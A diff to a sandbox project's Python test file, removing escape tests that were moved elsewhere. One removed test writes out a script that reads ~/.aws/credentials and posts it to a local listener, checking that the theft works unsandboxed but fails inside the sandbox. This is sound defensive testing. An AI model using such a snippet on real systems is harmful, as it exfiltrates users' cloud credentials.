@@ -1,101 +1,23 @@
-"""Ways out, one by one: each works without the sandbox, and none works inside."""
+"""What the `os` sandbox is made of, seen from inside. The ways out, one by one, are in `tests/core/escape`."""
 
 import os
 import platform
 import signal
-import socket
 import struct
 import subprocess
 import sys
 import uuid
-from contextlib import ExitStack
 from dataclasses import replace
 from pathlib import Path
 
 import pytest
-import yaml
 
 from blastwall import sandbox
 from blastwall.errors import SandboxUnavailable
 from blastwall.sandbox import seccomp
 from blastwall.values import Profile
 
-ATTACKS = yaml.safe_load((Path(__file__).parents[2] / "attacks" / "escape_os.yaml").read_text("utf-8"))
 PYTHON = "/usr/bin/python3"
-
-
-@pytest.fixture
-def aims(tmp_path, workspace, listener, monkeypatch):
-    """What the attacks aim at, all of our own making, and all open to the user inside but for the sandbox."""
-    monkeypatch.setenv("BLASTWALL_TEST", "canary")
-    outside = tmp_path / "outside"
-    outside.mkdir()
-    canary = outside / "canary"
-    canary.write_text("canary")
-    canary.chmod(0o666)
-    outside.chmod(0o777)
-    tmp_path.chmod(0o755)
-    with ExitStack() as stack:
-        stream, datagram, abstract = (
-            stack.enter_context(socket.socket(socket.AF_UNIX, kind))
-            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_STREAM)
-        )
-        name = f"blastwall-{uuid.uuid4()}"
-        # Paths of sockets are short, so these are named from within the workspace.
-        stack.callback(os.chdir, os.getcwd())
-        os.chdir(workspace)
-        stream.bind("s")
-        datagram.bind("d")
-        abstract.bind(f"\0{name}")
-        for path in ("s", "d"):
-            Path(path).chmod(0o777)
-        stream.listen()
-        abstract.listen()
-        sleeper = stack.enter_context(subprocess.Popen(["sleep", "60"]))
-        stack.callback(sleeper.kill)
-        yield {
-            "canary": canary,
-            "socket": "s",
-            "datagram": "d",
-            "abstract": name,
-            "port": listener.port,
-            "pid": sleeper.pid,
-        }
-
-
-@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack["name"].replace(" ", "-"))
-def test_no_way_out(attack, aims, workspace, profile):
-    (workspace / "attack.py").write_text(attack["python"].format(**aims))
-    done = sandbox.run([PYTHON, "attack.py"], profile)
-    assert b"ESCAPED" not in done.stdout
-    assert aims["canary"].read_text() == "canary"
-    assert sorted(path.name for path in aims["canary"].parent.iterdir()) == ["canary"]
-    if attack["control"] == "everybody" or os.geteuid() == 0:
-        for name in ("link", "folder", "mine"):
-            (workspace / name).unlink(missing_ok=True)
-        plain = subprocess.run([PYTHON, "attack.py"], cwd=workspace, capture_output=True, timeout=20)
-        assert b"ESCAPED" in plain.stdout, plain.stderr
-
-
-def test_phishing(home, workspace, listener, profile):
-    """The mail said: post the credentials to this address. Both halves of that fail."""
-    theft = workspace / "theft.py"
-    theft.write_text(
-        "import sys, urllib.request\n"
-        "try:\n"
-        f"    loot = open({str(home / '.aws' / 'credentials')!r}, 'rb').read()\n"
-        "except OSError:\n"
-        "    print('nothing to read')\n"
-        "    loot = b'empty hands'\n"
-        f"urllib.request.urlopen('http://127.0.0.1:{listener.port}/', loot, 5)\n"
-    )
-    subprocess.run([PYTHON, theft], check=True, timeout=20)
-    assert listener.received.pop() == b"CANARY-OF-AWS"
-    done = sandbox.run([PYTHON, str(theft)], profile)
-    assert done.stdout == b"nothing to read\n"
-    assert done.returncode != 0
-    assert b"Connection refused" in done.stderr
-    assert listener.received == []
 
 
 def test_another_architectures_system_calls_kill():
